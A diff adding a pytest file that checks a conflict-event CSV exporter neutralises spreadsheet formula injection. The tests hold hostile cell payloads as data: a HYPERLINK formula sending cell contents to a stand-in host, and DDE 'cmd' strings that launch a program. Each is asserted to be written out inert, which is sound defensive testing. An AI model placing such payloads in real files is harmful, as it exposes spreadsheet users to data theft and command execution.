@@ -1,0 +1,37 @@
+"""Exports that cannot attack their reader: CSV cells a spreadsheet would run are inert."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from fogmap.export import neutralise, write_acled_csv
+from fogmap.records import Event, Place
+from fogmap.store.queries import EventSummary
+
+
+def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers() -> None:
+    assert neutralise('=HYPERLINK("http://x.example/"&A1,"click")') == (
+        '\'=HYPERLINK("http://x.example/"&A1,"click")'
+    )
+    assert neutralise("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert [neutralise(v) for v in ("+1", "-1", "\tx", "\rx")] == ["'+1", "'-1", "'\tx", "'\rx"]
+    assert neutralise(-12.5) == -12.5 and neutralise("Kabul") == "Kabul"
+
+
+@pytest.mark.slow  # the real gazetteer names the country
+def test_the_acled_csv_writes_hostile_outlets_and_places_inert(gazetteer) -> None:
+    event = Event(0, "Battles", "Armed clash", 0, 10, "clashed", mode="asserted", fatalities=3)
+    place = Place(0, "=cmd|' /C calc'!A0", country="AF", lat=35.0, lon=-12.5)
+    row = EventSummary(
+        "abc123", "http://example.org/a", "@evil outlet", None, event, place, None, "text"
+    )
+    handle = io.StringIO()
+    assert write_acled_csv([row], handle, gazetteer) == 1
+    (written,) = csv.DictReader(io.StringIO(handle.getvalue()))
+    assert written["location"] == "'=cmd|' /C calc'!A0"
+    assert written["source"] == "'@evil outlet"
+    assert written["longitude"] == "-12.5" and written["fatalities"] == "3"
+    assert written["country"] == "Afghanistan"
